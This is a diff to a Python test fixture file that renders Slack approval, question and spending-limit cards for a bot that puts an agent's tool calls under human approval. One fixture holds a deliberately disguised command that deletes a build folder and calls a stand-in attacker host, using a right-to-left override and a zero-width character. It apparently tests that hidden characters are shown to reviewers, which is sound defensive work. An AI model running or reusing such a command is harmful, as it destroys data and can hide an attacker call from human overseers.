@@ -1,8 +1,9 @@
 """Every card of people in the loop, as values: for pictures, and for Slack's own judgement of their blocks."""
 
 from collections.abc import Mapping
+from dataclasses import replace
 
-from bot.render import answer, approval, people, question
+from bot.render import answer, approval, limit, people, question
 from bot.render.content import Content
 from runtime.session.approval_events import ApprovalVoided, ArgumentsEdited, CoveredCall, GrantGiven, GrantRevoked
 from runtime.session.events import (
@@ -16,6 +17,9 @@ from runtime.session.events import (
     RunOutcome,
 )
 from runtime.session.ids import SessionKey
+from runtime.session.interrupted import OUTCOMES
+from runtime.session.limit_events import LimitReached
+from runtime.session.limit_state import LimitState
 from runtime.session.state import ApprovalState, GrantState, QuestionState, RunState
 from tests.session.story import NOON, SESSION, asked, finished, ran, replied, requested, said, started, told
 
@@ -74,7 +78,9 @@ CAREFUL = BASE.model_copy(
 SEVERAL = BASE.model_copy(
     update={"also": (part("r1.1.1", "Run a shell command", LONG), part("r1.1.2", "Publish 2 files", "- a\n+ b"))}
 )
+HUGE = BASE.model_copy(update={"body": LONG * 30})
 APPROVED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="approved", by="U0CLEO", voters=("U0BEN", "U0CLEO"))
+EXPIRED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="expired", by="")
 DENIED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="denied", by="U0BEN", reason="Not on a Friday.")
 VOID = ApprovalVoided(run_id="r1", approval_id="a1", why="changed", by="U0ANA")
 EDIT = ArgumentsEdited(run_id="r1", call_id="r1.1.0", approval_id="a1", before="{}", after="{}", by="U0BEN")
@@ -119,7 +125,47 @@ def last_word() -> Content:
     return Content(text=content.text, blocks=(*content.blocks, *more))
 
 
+DIFF = BASE.model_copy(
+    update={
+        "title": "Publish 2 files to etl",
+        "body": "--- a/import.py\n+++ b/import.py\n@@ -1,2 +1,2 @@\n-day = None\n+day = today()\n LIMIT = 10\n",
+        "language": "diff",
+        "reason": "unmatched",
+    }
+)
+HIDDEN = BASE.model_copy(update={"body": "rm -rf build \u202e# gpj.exe\u200b && curl evil.example"})
+LOST = {
+    "purpose": "outcome_unknown",
+    "question": "Set the day of the orders",
+    "choices": OUTCOMES,
+    "about": {"tool": "bash", "arguments": '{"command":"psql shop"}', "begun_at_ms": str(NOON), "approved_by": "U0BEN"},
+}
+LIMIT = LimitReached(
+    run_id="r1", limit_id="l1", what="usd", used=2_500_000, limit=2_500_000, adds=2_500_000,
+    approvers=("requester",), expires_at_ms=NOON + 3_600_000,
+)  # fmt: skip
+
+
+def limited() -> Content:
+    """A run at its limit."""
+    return limit.render(KEY, replace(RUN, open_limit="l1"), LimitState(reached=LIMIT, seq=4, at_ms=NOON))
+
+
+def answered(**terms: object) -> Content:
+    """A question with its answer."""
+    given = QuestionAnswered(run_id="r1", question_id="q1", answer="Nightly", by="U0BEN", how="typed")
+    return question.render(KEY, RUN, replace(waiting(**terms), answered=given))
+
+
 CARDS: Mapping[str, Content] = {
+    "approval, diff": approval.render(KEY, RUN, state(DIFF)),
+    "approval, long": approval.render(KEY, RUN, state(BASE.model_copy(update={"body": LONG}))),
+    "approval, hidden characters": approval.render(KEY, RUN, state(HIDDEN)),
+    "approval, expired": approval.render(KEY, RUN, state(decided=EXPIRED)),
+    "question": question.render(KEY, RUN, waiting(choices=("Nightly", "Hourly", "Both"))),
+    "question, answered": answered(choices=("Nightly", "Hourly", "Both")),
+    "question, outcome unknown": question.render(KEY, RUN, waiting(**LOST)),
+    "limit": limited(),
     "approval": approval.render(KEY, RUN, state()),
     "approval, careful": approval.render(KEY, RUN, state(CAREFUL, votes=("U0BEN",), escalated=True)),
     "approval, several calls": approval.render(KEY, RUN, state(SEVERAL)),
@@ -134,7 +180,8 @@ CARDS: Mapping[str, Content] = {
     "allowance, revoked": people.grant(
         KEY, GrantState(given=GRANT, seq=5, revoked=GrantRevoked(grant_id="g1", by="U0ANA")), NOON
     ),
-    "direct message": people.direct(KEY, RUN, state()),
+    "direct message": people.direct(KEY, RUN, state(), "U0BEN"),
+    "direct message, too long": people.direct(KEY, RUN, state(HUGE), "U0BEN"),
     "question, form": question.render(KEY, RUN, waiting(question="Which order is it?", fields=FIELDS)),
     "question, file": question.render(KEY, RUN, waiting(question="Can you send me the log?", wants_file=True)),
     "question, default": question.render(
